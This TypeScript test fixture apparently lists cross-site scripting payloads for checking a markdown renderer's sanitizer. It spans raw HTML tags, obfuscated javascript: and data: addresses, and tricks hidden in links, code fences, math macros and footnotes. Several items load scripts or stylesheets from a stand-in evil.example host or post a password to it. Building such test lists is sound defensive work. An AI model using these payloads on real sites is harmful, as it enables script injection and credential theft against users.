/**
 * What authors of markdown have tried elsewhere to run code in a reader's browser: raw HTML, addresses, entities, nesting,
 * code highlighting, formulas, tables, footnotes. Each would set `window.pwned`, open a dialog or leave the page.
 */

const run = 'window.pwned=1'

/** Elements that run something by themselves. */
const elements = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"/>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src="x" onerror\n=\n"${run}">`,
  `<img/src/onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action=https://evil.example><input name=password><button>Log in</button></form>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<style>body{display:none}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<x onclick=${run} tabindex=0 autofocus onfocus=${run}>x</x>`,
  `</p><script>${run}</script><p>`,
]

/** Addresses that must not become a link or a picture. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript&colon;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `\u0001javascript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.pwned=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
]

/** Where markdown can contain an address. */
const places = [
  (address: string) => `[press](${address})`,
  (address: string) => `[press](<${address}>)`,
  (address: string) => `[press](${address} "title")`,
  (address: string) => `![alt](${address})`,
  (address: string) => `![alt](<${address}> "x\\" onerror=\\"${run}")`,
  (address: string) => `<${address}>`,
  (address: string) => `[press][ref]\n\n[ref]: ${address}`,
  (address: string) => `[![alt](${address})](${address})`,
  (address: string) => `| a |\n|---|\n| [press](${address}) |`,
  (address: string) => `- [ ] [press](${address})`,
]

/** Where an element can hide. */
const hidden = [
  (html: string) => html,
  (html: string) => `> ${html.replaceAll('\n', ' ')}`,
  (html: string) => `\`\`\`html\n${html}\n\`\`\``,
]

/** Marks that break out of attributes, code, formulas and extensions. */
const others = [
  `![" onerror="${run}](x)`,
  `![x](x "a\\" onerror=${run} b=\\"")`,
  `[a](/ "x' onmouseover='${run}")`,
  `# <img src=x onerror=${run}> heading`,
  `# [x](javascript:${run})`,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
  `\`\`\`js onload=${run}\nx\n\`\`\``,
  `~~~<script>${run}</script>\nx\n~~~`,
  `$\\href{javascript:${run}}{x}$`,
  `$$\\url{javascript:${run}}$$`,
  `$\\includegraphics{x" onerror="${run}}$`,
  `$\\htmlData{onclick=${run}}{x}$`,
  `$\\htmlStyle{background:url(javascript:${run})}{x}$`,
  `$<img src=x onerror=${run}>$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `[^1]\n\n[^1]: <script>${run}</script>`,
  `<https://evil.example" onmouseover="${run}>`,
  `https://evil.example/"onmouseover="${run}`,
  `www.evil.example/<img src=x onerror=${run}>`,
  `a@b.c"onmouseover="${run}`,
  `**<img src=x onerror=${run}>**`,
  `*[x](javascript:${run})*`,
  `~~<svg onload=${run}>~~`,
  `:::warning\n<script>${run}</script>\n:::`,
  `> [!NOTE]\n> <img src=x onerror=${run}>`,
  `<details><summary><img src=x onerror=${run}></summary>x</details>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\<script>${run}\\</script>`,
  `<a\u00a0href="javascript:${run}">x</a>`,
]

/** All payloads, each a piece of markdown of its own. */
export const markdownPayloads: readonly string[] = [
  ...hidden.flatMap((place) => elements.map(place)),
  ...places.flatMap((place) => addresses.map(place)),
  ...others,
]
